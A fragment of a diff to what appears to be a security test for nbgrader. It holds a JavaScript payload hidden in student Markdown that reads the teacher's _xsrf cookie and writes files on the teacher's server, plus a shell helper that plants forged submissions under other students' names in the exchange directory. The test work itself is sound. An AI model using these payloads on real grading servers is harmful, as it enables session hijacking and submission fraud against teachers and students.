@@ -14,7 +14,7 @@ Deno.writeTextFileSync({trace!r}, "it ran");
 """
 
 
-# What ben's Markdown would do in the browser of a teacher who looks at it: it writes a file on the teacher's server.
+# The script in ben's Markdown: in the browser of a teacher who opens it, it would write a file on the teacher's server.
 WRITTEN = "written_by_ben.txt"
 PAYLOAD = f"""
 const own = location.pathname.split("/formgrader")[0], xsrf = (document.cookie.match(/_xsrf=([^;]*)/) ?? [])[1];
@@ -34,7 +34,8 @@ MARKDOWN = [
 PAGE = f"<!doctype html><title>before</title><script>{PAYLOAD}</script>"
 
 
-# In nbgrader's exchange: a link in mallory's own name, work in the name of ben, and a name that nbgrader cannot read.
+# Entries for nbgrader's exchange: a link under mallory's name, work under ben's name, and a name that nbgrader cannot
+# read.
 LINKS = """
 submit() {{ mkdir "{inbound}/$1" && cd "{inbound}/$1" && echo "2031-01-01 00:00:00.000000 UTC" > timestamp.txt; }}
 submit "mallory+ps1+2031-01-01 00:00:00.000000 UTC+aaaa"
